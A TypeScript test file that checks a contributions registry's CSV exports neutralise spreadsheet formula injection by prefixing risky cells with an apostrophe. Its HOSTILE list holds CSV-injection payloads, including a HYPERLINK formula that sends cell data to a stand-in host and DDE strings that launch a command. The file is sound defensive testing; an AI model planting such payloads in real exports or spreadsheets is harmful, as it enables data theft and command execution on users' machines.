/**
 * Every CSV export (the citizen's contributions, the administrator's lookups): a cell that a spreadsheet would run as a
 * formula is written as text (OWASP CSV injection: a leading = + - @, tab, carriage return or line feed, and the
 * full-width = + - @, get a leading apostrophe), and the file still parses back to the same cells.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { toCsv } from './registry/contributions-view';
import { csvLine } from './staff/admin';
import type { ContributionLine } from './registry/records';
import type { schema } from './db';

const HOSTILE = [
	'=HYPERLINK("http://evil.example/?d="&A1,"คลิก")',
	'+66812345678',
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\uFF1D1+1',
	'\uFF0B1',
	'\uFF0D1',
	'\uFF20SUM(A1)'
];
const HARMLESS = ['บริษัท ตัวอย่าง จำกัด', 'Example, Ltd.', 'say "hi"', 'a\nb', ''];

/** The cells of a CSV text, as a spreadsheet's importer splits them (BOM dropped). */
const cells = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];

function line(employer: string): ContributionLine {
	return {
		period: '2026-01',
		section: 33,
		employer,
		employerEn: employer,
		employerId: 1,
		wageBaseSatang: 1_500_000,
		insuredSatang: 75_000,
		employerSatang: 75_000,
		governmentSatang: 0,
		paidDate: '2026-02-15',
		oldAgeSatang: 45_000,
		submittedAt: null
	};
}

describe('CSV exports', () => {
	it('the contributions CSV writes an employer name that starts a formula as text, and parses back whole', () => {
		for (const locale of ['th', 'en'] as const) {
			const csv = toCsv([...HOSTILE, ...HARMLESS].map(line), locale);
			expect(csv.startsWith('\uFEFF')).toBe(true);
			expect(csv.endsWith('\r\n')).toBe(true);
			const rows = cells(csv);
			expect(rows).toHaveLength(1 + HOSTILE.length + HARMLESS.length);
			expect(rows.slice(1).map((r) => r[3])).toEqual([...HOSTILE.map((h) => `'${h}`), ...HARMLESS]);
			// the other cells are unchanged: amounts in baht, the year in the Buddhist Era
			expect(rows[1]).toEqual(['2026-01', '2569', '33', `'${HOSTILE[0]}`, '15000.00', '750.00', '750.00', '0.00', '2026-02-15']);
			for (const r of rows.slice(1)) expect(r[3]).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
		}
	});

	it('the staff lookups CSV writes every text field that starts a formula as text', () => {
		for (const h of HOSTILE) {
			const row = {
				id: 1,
				at: Date.UTC(2026, 0, 5, 3, 4),
				staffId: 's1',
				username: h,
				role: 'officer',
				place: h,
				nationalId: '1103700123458',
				method: 'typed',
				reason: h,
				view: 'summary',
				found: true,
				ip: h,
				// a look by passport: typed by the staff member, so hostile too
				passportNo: h,
				nationality: 'MM'
			} as unknown as typeof schema.staffLookups.$inferSelect;
			const [r] = cells(csvLine(row) + '\r\n');
			expect(r).toHaveLength(12);
			expect([r![2], r![4], r![7], r![10]]).toEqual([`'${h}`, `'${h}`, `'${h}`, `'${h}`]);
			expect(r![5]).toBe('1103700123458');
			// the passport column starts with the state, so a formula typed as the number stays text inside it
			expect(r![11]).toBe(`MM ${h}`);
		}
	});
});
